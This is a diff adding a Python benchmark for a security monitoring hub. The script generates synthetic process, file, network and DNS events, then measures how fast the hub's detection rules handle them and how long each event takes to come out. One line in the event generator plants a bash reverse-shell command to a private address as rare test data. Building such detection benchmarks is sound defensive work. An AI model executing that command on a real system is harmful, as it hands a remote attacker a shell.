@@ -1,0 +1,321 @@
+"""Hub benchmark: throughput and ingest->PUB latency of the real ``threatseer hub`` process.
+
+A recorded mix of events (generated here, deterministic: execs with varied argv, opens of
+sensitive and ordinary files, connects, DNS queries, forks and exits, a third of them from
+containers) goes through all engines: the default bundle (rules/) plus the SigmaHQ Linux rules
+in ../shared/sigma, static lists, and the profile engine (learning, then scoring).
+
+Phase 1, throughput: sensor processes push pre-encoded wire batches as fast as the hub takes
+them; a SUB counts what comes out. Reports events/s (wall) and events per CPU-second of the hub
+process (the pipeline is one thread, so that is "per core").
+Phase 2, latency: one sensor process sends 10k events/s (batches of 100 every 10 ms), each
+event stamped with its send time; the SUB measures send -> PUB receive, p50/p99.
+
+Usage: .venv/bin/python bench/hub_bench.py [--events N] [--senders K] [--seconds S]
+Last line: ``events_per_s=... events_per_cpu_s=... p50_ms=... p99_ms=...``.
+"""
+
+from __future__ import annotations
+
+import argparse
+import glob
+import multiprocessing as mp
+import os
+import random
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+from typing import Any
+
+import msgpack
+import yaml
+import zmq
+
+from threatseer.sensor import ecs, wire
+
+ROOT = Path(__file__).resolve().parent.parent
+SIGMA = ROOT.parent / "shared" / "sigma" / "rules" / "linux"
+THREATSEER = str(Path(sys.executable).parent / "threatseer")
+BATCH = 500
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+# -- the recorded mix ----------------------------------------------------------------------
+EXES = ["/usr/bin/ls", "/usr/bin/cat", "/usr/bin/grep", "/usr/bin/sed", "/usr/bin/awk",
+        "/bin/bash", "/bin/sh", "/usr/bin/python3", "/usr/bin/curl", "/usr/bin/git",
+        "/usr/sbin/nginx", "/usr/bin/node", "/usr/bin/java", "/usr/bin/ps", "/usr/bin/sleep",
+        "/usr/bin/find", "/usr/bin/tar", "/usr/bin/gzip", "/usr/bin/ssh", "/usr/bin/sudo",
+        "/usr/lib/postgresql/15/bin/postgres", "/usr/bin/redis-server", "/usr/bin/dockerd",
+        "/usr/bin/containerd-shim", "/usr/bin/systemctl", "/usr/bin/journalctl", "/usr/bin/wget",
+        "/usr/bin/nc", "/usr/bin/id", "/usr/bin/whoami", "/usr/bin/uname", "/usr/bin/crontab"]
+PARENTS = ["/bin/bash", "/usr/lib/systemd/systemd", "/usr/sbin/cron", "/usr/sbin/sshd",
+           "/usr/bin/containerd-shim", "/usr/bin/python3"]
+PATHS = ["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hosts", "/etc/resolv.conf",
+         "/etc/ssh/sshd_config", "/root/.ssh/authorized_keys", "/home/alice/.ssh/id_rsa",
+         "/etc/sudoers", "/etc/crontab", "/etc/ld.so.preload", "/etc/pam.d/sshd",
+         "/var/log/syslog", "/proc/self/status", "/usr/lib/x86_64-linux-gnu/libc.so.6"]
+IMAGES = ["nginx:1.25", "postgres:15", "redis:7", "python:3.11-slim", "node:20", "app:1.4.2"]
+DOMAINS = ["api.github.com", "pypi.org", "registry.npmjs.org", "example.com", "s3.amazonaws.com",
+           "updates.ubuntu.com", "metrics.internal", "db.internal"]
+
+
+def make_events(n: int, seed: int = 7) -> list[dict[str, Any]]:
+    rnd = random.Random(seed)
+    out = []
+    for i in range(n):
+        host = f"web{rnd.randrange(20)}"
+        exe = rnd.choice(EXES)
+        r = rnd.random()
+        action = ("exec" if r < 0.35 else "open" if r < 0.6 else "connect" if r < 0.78
+                  else "dns-query" if r < 0.85 else "fork" if r < 0.92 else "exit")
+        cat, typ = ecs.CATEGORIES[action]
+        ev: dict[str, Any] = {
+            "@timestamp": "2026-11-28T02:00:00.000000Z", "event.kind": "event",
+            "event.category": cat, "event.type": typ, "event.action": action,
+            "event.id": f"bench-{i}", "host.name": host, "host.id": f"id-{host}",
+            "process.pid": rnd.randrange(2, 400000), "process.name": exe.rpartition("/")[2][:15],
+            "process.executable": exe, "process.parent.pid": rnd.randrange(1, 5000),
+            "process.parent.executable": rnd.choice(PARENTS), "user.id": rnd.choice([0, 1000]),
+            "user.name": "root", "agent.type": "threatseer",
+        }
+        if rnd.random() < 0.33:
+            ev["container.id"] = f"{rnd.randrange(1 << 60):016x}"
+            ev["container.image.name"] = rnd.choice(IMAGES)
+        if action == "exec":
+            args = [exe.rpartition("/")[2]]
+            for _ in range(rnd.randrange(0, 5)):
+                args.append(rnd.choice(["-l", "-v", "--port", str(rnd.randrange(65536)),
+                                        f"/tmp/tmp.{rnd.randrange(1 << 30):x}", "-c", "x",
+                                        f"{rnd.randrange(1 << 64):016x}", "/etc/hosts"]))
+            if rnd.random() < 0.005:
+                args = ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"]
+            ev["process.args"] = args
+            ev["process.command_line"] = " ".join(args)
+        elif action == "open":
+            ev["file.path"] = (rnd.choice(PATHS) if rnd.random() < 0.7
+                               else f"/tmp/work-{rnd.randrange(1000)}/f{rnd.randrange(100)}")
+            ev["threatseer.open.flags"] = ["read"] if rnd.random() < 0.8 else ["write", "create"]
+        elif action == "connect":
+            ev["destination.ip"] = f"10.{rnd.randrange(4)}.{rnd.randrange(8)}.{rnd.randrange(255)}"
+            ev["destination.port"] = rnd.choice([443, 80, 5432, 6379, 53, 22, 8080])
+            ev["network.transport"] = "tcp"
+            ev["source.ip"] = "10.0.0.5"
+            ev["source.port"] = rnd.randrange(32768, 60999)
+        elif action == "dns-query":
+            ev["dns.question.name"] = rnd.choice(DOMAINS)
+        out.append(ev)
+    return out
+
+
+# -- sensors (separate processes, real wire module) ----------------------------------------
+def flood_sender(endpoint: str, sensor_id: str, events: list[dict[str, Any]], rounds: int,
+                 go: Any) -> None:
+    ctx = zmq.Context()
+    sock = ctx.socket(zmq.PUSH)
+    sock.setsockopt(zmq.SNDHWM, 100)
+    sock.connect(endpoint)
+    frames = [wire.encode(wire.Batch(sensor_id, i + 1, events[o:o + BATCH], host=sensor_id))
+              for i, o in enumerate(range(0, len(events), BATCH))]
+    go.wait()
+    seq = 0
+    for _ in range(rounds):
+        for f in frames:
+            seq += 1
+            sock.send_multipart(f)
+    sock.setsockopt(zmq.LINGER, -1)
+    sock.close()
+    ctx.term()
+
+
+def paced_sender(endpoint: str, events: list[dict[str, Any]], rate: int, seconds: float,
+                 go: Any) -> None:
+    ctx = zmq.Context()
+    sock = ctx.socket(zmq.PUSH)
+    sock.connect(endpoint)
+    per = rate // 100  # a batch every 10 ms
+    go.wait()
+    start = time.monotonic()
+    seq = 0
+    pos = 0
+    while time.monotonic() - start < seconds:
+        seq += 1
+        batch = [dict(e) for e in events[pos:pos + per]]
+        pos = (pos + per) % (len(events) - per)
+        now = time.time_ns()
+        for e in batch:
+            e["threatseer.bench.sent_ns"] = now
+        sock.send_multipart(wire.encode(wire.Batch("paced", seq, batch, host="paced")))
+        delay = start + seq * 0.01 - time.monotonic()
+        if delay > 0:
+            time.sleep(delay)
+    sock.setsockopt(zmq.LINGER, -1)
+    sock.close()
+    ctx.term()
+
+
+# -- the hub -------------------------------------------------------------------------------
+def build_bundle(tmp: str) -> str:
+    bundle = os.path.join(tmp, "bundle")
+    shutil.copytree(ROOT / "rules" / "default", bundle)
+    os.makedirs(os.path.join(bundle, "sigma"), exist_ok=True)
+    n = 0
+    for f in glob.glob(str(SIGMA / "**" / "*.yml"), recursive=True):
+        shutil.copy(f, os.path.join(bundle, "sigma", os.path.basename(f)))
+        n += 1
+    print(f"bundle: rules/default + {n} SigmaHQ Linux rules")
+    return bundle
+
+
+def cpu_seconds(pid: int) -> float:
+    fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
+    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
+
+
+def start_hub(tmp: str, bundle: str | None) -> tuple[subprocess.Popen[str], str, str]:
+    ingest, pub = f"tcp://127.0.0.1:{free_port()}", f"tcp://127.0.0.1:{free_port()}"
+    cfg = {"ingest": {"endpoint": ingest, "rcv_hwm": 1000},
+           "publish": {"endpoint": pub, "snd_hwm": 0},
+           "metrics": {"listen": ""},
+           "actions": {"toss_below": -1_000_000, "alert_at": 80},
+           "profiles": {"learn_seconds": 0, "learn_min_events": 50},
+           "state_dir": os.path.join(tmp, "state"), "log_level": "warning"}
+    if bundle:
+        cfg["bundle"] = bundle
+    path = os.path.join(tmp, "hub.yaml")
+    Path(path).write_text(yaml.safe_dump(cfg))
+    proc = subprocess.Popen([THREATSEER, "hub", "-c", path], stderr=subprocess.PIPE, text=True)
+    line = proc.stderr.readline()  # type: ignore[union-attr]
+    if "hub ready" not in line:
+        raise SystemExit(f"hub did not start: {line}{proc.stderr.read()}")  # type: ignore[union-attr]
+    return proc, ingest, pub
+
+
+def subscriber(ctx: zmq.Context, pub: str) -> zmq.Socket:
+    sub = ctx.socket(zmq.SUB)
+    sub.setsockopt(zmq.RCVHWM, 0)
+    sub.setsockopt(zmq.SUBSCRIBE, b"")
+    sub.connect(pub)
+    return sub
+
+
+def wait_subscribed(ctx: zmq.Context, ingest: str, sub: zmq.Socket) -> None:
+    push = ctx.socket(zmq.PUSH)
+    push.connect(ingest)
+    probe = make_events(1)
+    for i in range(200):
+        push.send_multipart(wire.encode(wire.Batch("probe", i + 1, probe)))
+        if sub.poll(100):
+            break
+    else:
+        raise SystemExit("no output from the hub")
+    while sub.poll(300):
+        sub.recv_multipart()
+    push.close(linger=0)
+
+
+def throughput(ingest: str, pub: str, hub_pid: int, events: list[dict[str, Any]],
+               senders: int, rounds: int) -> tuple[float, float]:
+    ctx = zmq.Context()
+    sub = subscriber(ctx, pub)
+    wait_subscribed(ctx, ingest, sub)
+    go = mp.Event()
+    procs = [mp.Process(target=flood_sender, args=(ingest, f"sensor-{k}", events, rounds, go))
+             for k in range(senders)]
+    for p in procs:
+        p.start()
+    time.sleep(1.0)  # senders encode their batches first
+    total = senders * rounds * len(events)
+    cpu0 = cpu_seconds(hub_pid)
+    t0 = time.perf_counter()
+    go.set()
+    got = 0
+    while got < total and sub.poll(10_000):
+        unpacker = msgpack.Unpacker()
+        unpacker.feed(sub.recv_multipart()[1])
+        got += unpacker.read_array_header()
+    wall = time.perf_counter() - t0
+    cpu = cpu_seconds(hub_pid) - cpu0
+    for p in procs:
+        p.join()
+    ctx.destroy(linger=0)
+    if got < total:
+        print(f"WARNING: received {got} of {total} events")
+    print(f"throughput: {got} events from {senders} sensors in {wall:.2f} s wall, "
+          f"hub CPU {cpu:.2f} s")
+    return got / wall, got / cpu if cpu else 0.0
+
+
+def latency(ingest: str, pub: str, events: list[dict[str, Any]], rate: int,
+            seconds: float) -> tuple[float, float, int]:
+    ctx = zmq.Context()
+    sub = subscriber(ctx, pub)
+    wait_subscribed(ctx, ingest, sub)
+    go = mp.Event()
+    proc = mp.Process(target=paced_sender, args=(ingest, events, rate, seconds, go))
+    proc.start()
+    time.sleep(0.5)
+    go.set()
+    lat = []
+    unpack = msgpack.unpackb
+    while sub.poll(2000):
+        _topic, body = sub.recv_multipart()
+        now = time.time_ns()
+        for ev in unpack(body, raw=False):
+            sent = ev.get("threatseer.bench.sent_ns")
+            if sent:
+                lat.append((now - sent) / 1e6)
+    proc.join()
+    ctx.destroy(linger=0)
+    lat.sort()
+    if not lat:
+        raise SystemExit("no latency samples")
+    p50, p99 = lat[len(lat) // 2], lat[int(len(lat) * 0.99)]
+    print(f"latency at {rate} events/s for {seconds:.0f} s: {len(lat)} events, "
+          f"p50 {p50:.2f} ms, p99 {p99:.2f} ms, max {lat[-1]:.2f} ms")
+    return p50, p99, len(lat)
+
+
+def main() -> None:
+    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    ap.add_argument("--events", type=int, default=50_000, help="distinct events in the mix")
+    ap.add_argument("--senders", type=int, default=2)
+    ap.add_argument("--rounds", type=int, default=3, help="times each sender sends the mix")
+    ap.add_argument("--rate", type=int, default=10_000)
+    ap.add_argument("--seconds", type=float, default=10.0)
+    ap.add_argument("--no-rules", action="store_true", help="empty bundle (engine overhead)")
+    args = ap.parse_args()
+    mp.set_start_method("fork")
+    events = make_events(args.events)
+    kinds: dict[str, int] = {}
+    for e in events:
+        kinds[e["event.action"]] = kinds.get(e["event.action"], 0) + 1
+    print("mix: " + ", ".join(f"{k} {v / len(events):.0%}" for k, v in sorted(kinds.items())))
+    with tempfile.TemporaryDirectory() as tmp:
+        bundle = None if args.no_rules else build_bundle(tmp)
+        hub, ingest, pub = start_hub(tmp, bundle)
+        try:
+            eps, ecpu = throughput(ingest, pub, hub.pid, events, args.senders, args.rounds)
+            p50, p99, _n = latency(ingest, pub, events, args.rate, args.seconds)
+        finally:
+            hub.send_signal(signal.SIGTERM)
+            try:
+                hub.wait(30)
+            except subprocess.TimeoutExpired:
+                hub.kill()
+    print(f"target >= 100000 events/s per core: {ecpu / 100_000:.2f}x; "
+          f"target p99 <= 20 ms: {20 / p99:.2f}x headroom")
+    print(f"events_per_s={eps:.0f} events_per_cpu_s={ecpu:.0f} p50_ms={p50:.2f} p99_ms={p99:.2f}")
+
+
+if __name__ == "__main__":
+    main()
